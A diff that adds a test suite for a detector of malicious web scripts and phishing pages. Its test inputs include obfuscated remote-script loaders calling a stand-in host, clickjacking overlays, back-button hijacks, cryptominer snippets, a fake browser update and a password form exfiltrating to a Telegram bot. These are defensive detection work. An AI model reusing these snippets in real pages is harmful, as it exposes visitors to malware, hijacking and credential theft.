@@ -1,0 +1,140 @@
+import { describe, expect, it } from "vitest";
+import { listPhishingReasons, listTrapReasons } from "./find-traps.ts";
+import { readPage } from "./read-page.ts";
+import { readTraps } from "./read-traps.ts";
+import { sumOf } from "./reason.ts";
+
+const here = "https://www.here.org/lessons";
+const encoded = btoa("https://cdn.there.org/u.js");
+
+describe("what scripts do behind visitors' backs", () => {
+  it.each([
+    [
+      "a frame in place of the page",
+      "document.body.innerHTML='<iframe src=https://a.there.org/de/></iframe>'",
+    ],
+    [
+      "a frame over the window",
+      'document.write(\'<iframe src="//there.org/" style="position:fixed;inset:0"></iframe>\')',
+    ],
+    [
+      "a script whose address is in base64",
+      `s=createElement("script");s.src=atob("${encoded}")+"?"+Date.now();`,
+    ],
+    [
+      "the same, by a name",
+      `var u=atob("${encoded}"), s=document.createElement('script');\ns.src = u;\ndocument.head.append(s)`,
+    ],
+    [
+      "a way back that leads on",
+      "history.pushState(null,'',location.href);onpopstate=function(){location='https://go.there.org/b?c='+id}",
+    ],
+    [
+      "a way back that leads on, as listened for",
+      "addEventListener('popstate', () => { location.replace('https://there.org/offer') })",
+    ],
+    [
+      "a hidden frame in place of the page",
+      `documentElement.innerHTML=atob("${btoa("<iframe src='https://there.org/'>")}")`,
+    ],
+    [
+      "a page that is fetched in place of this one",
+      "fetch('https://there.org/p').then(r=>r.text()).then(t=>{document.open();document.write(t)})",
+    ],
+    [
+      "a frame over the window that asks for a proof",
+      "f=createElement('iframe');f.src='https://there.org/verify';f.style='position:fixed;inset:0'",
+    ],
+    [
+      "a script whose address is in numbers",
+      "l=['\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x74\\x68\\x65\\x72\\x65\\x2e\\x6f\\x72\\x67\\x2f'];createElement('script').src=l[0]",
+    ],
+    ["one that is written", `var u=atob('${encoded}');document.write('<script src="'+u+'"><\\/script>')`],
+    [
+      "one that is made of numbers",
+      `eval(String.fromCharCode(${[..."s=createElement('script');s.src='https://there.org/a.js'"].map((one) => one.charCodeAt(0))}))`,
+    ],
+    ["any press", "document.addEventListener('click', () => { window.open('https://hot.there.org/?z=1') })"],
+    ["leave for notices", "Notification.requestPermission();location='https://there.org/a'"],
+  ])("%s", (_, script) => {
+    expect(readTraps(script, here)).toEqual([expect.stringMatching(/ there\.org$/)]);
+  });
+
+  it.each([
+    "var m=new CoinHive.Anonymous('gk1hQ8',{throttle:0.2});m.start();",
+    "new Client.Anonymous('7f', {throttle: 0.5, c: 'w'}).start()",
+    "pool.connect('stratum+tcp://pool.there.org:3333')",
+  ])("coins reckoned for others: %s", (script) => {
+    expect(readTraps(script, here)).toEqual(["a script reckons coins on visitors' computers"]);
+  });
+
+  it.each([
+    [
+      "a film in a box",
+      'box.innerHTML = \'<iframe src="https://www.youtube.com/embed/a" width="100%"></iframe>\'',
+    ],
+    ["a frame of its own", "document.body.innerHTML = '<iframe src=\"/quiz\"></iframe>'"],
+    ["a part of its own", "fetch('/news').then(r=>r.text()).then(t=>{document.body.innerHTML=t})"],
+    ["a counter", "s=createElement('script');s.src='https://www.google-analytics.com/analytics.js';"],
+    [
+      "comments under a name of their own",
+      "var n='here-org', d=document, s=d.createElement('script');s.src='https://'+n+'.disqus.com/embed.js';",
+    ],
+    ["views within the page", "window.onpopstate = () => { location = '/list' }"],
+    ["notices of its own", "button.onclick = () => Notification.requestPermission().then(save)"],
+    [
+      "a button for sharing",
+      "document.addEventListener('click', (e) => { if (e.target.id == 's') window.open('https://there.org/share') })",
+    ],
+    [
+      "notices, and a login beside them",
+      "bell.onclick=()=>Notification.requestPermission().then(p=>{save(p)});function go(){location='https://there.org/'}",
+    ],
+    [
+      "a map over the window",
+      "f=createElement('iframe');f.src='https://maps.there.org/';f.style='position:fixed;inset:0'",
+    ],
+    ["an anonymous visit", "session = new Visit('Anonymous').start()"],
+  ])("not %s", (_, script) => {
+    expect(readTraps(script, here)).toEqual([]);
+  });
+});
+
+it("asks about scripts from places whose names say what they are for", () => {
+  const weigh = (html: string) => sumOf(listTrapReasons(readPage(html, here)));
+  expect(weigh("<p>Lessons</p><script src=//free-porn.club/pop.js></script>")).toBe(2);
+  expect(weigh("<p>Lessons</p><script src=https://cdn.jsdelivr.net/npm/a.js></script>")).toBe(0);
+});
+
+it("takes a program for a false update, and no script that tells of old browsers", () => {
+  const host = (script: string) => readPage(`<p>Lessons</p><script>${script}</script>`, here).programHost;
+  expect(host("d.innerHTML='Update Chrome: <a href=https://dl.there.org/Setup.exe>'")).toBe("dl.there.org");
+  expect(host("e.src='https://browser-update.org/update.min.js' // browser update")).toBe("");
+});
+
+it("never asks for a card, its code and its PIN without being a thief's", () => {
+  const weigh = (fields: string) =>
+    sumOf(listPhishingReasons(readPage(`<p>Lessons</p><form>${fields}</form>`, here), here, ""));
+  expect(weigh("<input name=cardnumber><input name=cvv><input name=pin>")).toBe(3);
+  expect(weigh('<input placeholder="Library card number"><input name=pin>')).toBe(0);
+  expect(weigh("<input name=cardnumber><input name=cvv>")).toBe(0);
+});
+
+describe("a short page that asks for a password", () => {
+  const door = (head: string, more = "") =>
+    readPage(`${head}<form><input type=password></form>${more}`, here);
+  const weigh = (page: ReturnType<typeof door>) => sumOf(listPhishingReasons(page, here, "Lessons"));
+
+  it("in the sign of a maker, and leads nowhere else, is in his name", () => {
+    const sign = '<title>Sign in</title><img src=a.svg alt="Microsoft">';
+    expect(weigh(door(sign))).toBe(4);
+    expect(weigh(door(sign, "<a href=/help>Help</a>"))).toBe(0);
+    expect(weigh(door('<title>Sign in</title><img src=a.svg alt="River School">'))).toBe(0);
+  });
+
+  it("and sends it to a chat is a thief's", () => {
+    const script = "<script>fetch('https://api.telegram.org/bot1:x/sendMessage')</script>";
+    expect(weigh(door("<title>Portal</title>", script))).toBe(4);
+    expect(weigh(readPage(`<p>News of the school</p>${script}`, here))).toBe(0);
+  });
+});
